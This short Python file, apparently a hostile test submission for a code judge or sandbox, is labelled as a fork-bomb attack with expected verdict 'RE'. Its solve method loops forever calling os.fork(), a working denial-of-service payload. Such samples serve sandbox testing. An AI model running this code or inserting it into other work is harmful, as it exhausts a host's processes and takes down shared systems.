# verdict: RE
# attack: a classic fork bomb with os.fork
# ruff: noqa
# mypy: ignore-errors
import os


class Solution:
    def solve(self, n: int) -> int:
        while True:
            os.fork()
